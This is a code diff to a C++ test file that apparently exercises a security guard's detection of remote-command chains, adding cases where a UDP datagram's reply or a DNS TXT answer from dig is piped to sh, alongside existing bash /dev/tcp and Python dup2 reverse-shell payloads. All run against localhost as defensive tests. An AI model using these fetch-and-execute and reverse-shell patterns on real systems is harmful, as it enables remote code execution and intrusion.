@@ -17,7 +17,27 @@ namespace {
 // The caller, once somebody listens.
 #define CALL "until nc -q0 127.0.0.1 @PORT < @D/local.sh; do sleep 0.05; done"
 
+// Answers one datagram with a script.
+#define ANSWERS                                                                                    \
+    "cat > @D/udp.py <<'END'\n"                                                                    \
+    "import os, socket\n"                                                                          \
+    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"                                       \
+    "s.bind(('127.0.0.1', 0))\n"                                                                   \
+    "open('@D/p', 'w').write(str(s.getsockname()[1]))\n"                                           \
+    "os.rename('@D/p', '@D/port')\n"                                                               \
+    "s.settimeout(9)\n"                                                                            \
+    "s.sendto(open('@D/local.sh', 'rb').read(), s.recvfrom(99)[1])\n"                              \
+    "END\n"                                                                                        \
+    "/usr/bin/python3 @D/udp.py & until [ -e @D/port ]; do sleep 0.01; done; port=$(< @D/port); "
+// Asks it, from a socket that is not connected.
+#define ASKS                                                                                       \
+    "/usr/bin/python3 -c 'import socket, sys; s = socket.socket(socket.AF_INET6 if \":\" in "      \
+    "sys.argv[1] else socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b\"x\", (sys.argv[1], "         \
+    "int(sys.argv[2]))); print(s.recvfrom(999)[0].decode())' "
+
 const Attack kSocketAttacks[] = {
+    {"a datagram's answer", ANSWERS ASKS "127.0.0.1 $port | sh; kill $!"},
+    {"a datagram's answer, by an IPv6 socket", ANSWERS ASKS "::ffff:127.0.0.1 $port | sh; kill $!"},
     SOCKET_CASE("bash -i by dev tcp", "bash -i >& @COMMANDS 0>&1"),
     SOCKET_CASE("exec by dev tcp", "exec 5<>@COMMANDS; bash <&5 >&5 2>&5"),
     SOCKET_CASE("python dup2", "/usr/bin/python3 -c 'import os, socket, subprocess; "
@@ -52,6 +72,18 @@ std::vector<int> families_in(const std::string& recording, std::uint16_t port)
             families.push_back(record["flow"]["family"]);
     }
     return families;
+}
+
+// What a name server answers is text that dig prints. Nobody listens here: the question is enough.
+TEST(ChainSocketDns, ConvictsWhoPrintsAnswersToAShell)
+{
+    for (Mode mode : {Mode::monitor, Mode::block, Mode::kill}) {
+        ChainSite site;
+        GuardResult result =
+            run_guard(mode, site.fill("dig +tries=1 +time=1 @127.0.0.1 x.example TXT | sh; true"));
+        EXPECT_THAT(result.codes(), testing::Contains("CHAIN-001")) << result.out << result.err;
+        EXPECT_EQ(result.first("CHAIN-001").did("refuse"), mode != Mode::monitor) << result.out;
+    }
 }
 
 // Java opens AF_INET6 for everything. What it connects to an IPv4 address travels as IPv4, and is
